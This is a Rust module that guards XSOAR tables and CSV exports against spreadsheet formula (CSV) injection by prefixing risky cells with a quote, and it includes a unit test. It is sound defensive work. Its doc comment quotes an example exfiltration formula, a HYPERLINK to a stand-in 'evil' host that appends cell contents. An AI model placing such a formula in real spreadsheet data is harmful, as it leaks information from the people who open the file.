//! Text from outside (a register file, a CMDB, a REST answer) on its way into a table cell: the
//! XSOAR context, the war room's tables and any CSV exported from them.
//!
//! A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or a
//! carriage return) as a formula: `=HYPERLINK("http://evil/?"&A1, "Open")` in a provider name
//! would run on the analyst's machine when the table is opened. OWASP's "CSV Injection" advice is
//! to prefix such a cell with a single quote, which every spreadsheet shows as text; that is what
//! [`formula_safe`] does. Numbers are never passed through it, so `-5` stays a number.

use std::borrow::Cow;

/// `text` with a leading `'` when a spreadsheet would read it as a formula.
pub fn formula_safe(text: &str) -> Cow<'_, str> {
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

/// [`formula_safe`] into an owned string.
pub fn safe(text: &str) -> String {
    formula_safe(text).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_other_text_is_left_alone() {
        for (raw, want) in [
            ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("Card payments", "Card payments"),
            ("", ""),
            ("a=b", "a=b"),
        ] {
            assert_eq!(formula_safe(raw), want, "{raw}");
        }
    }
}
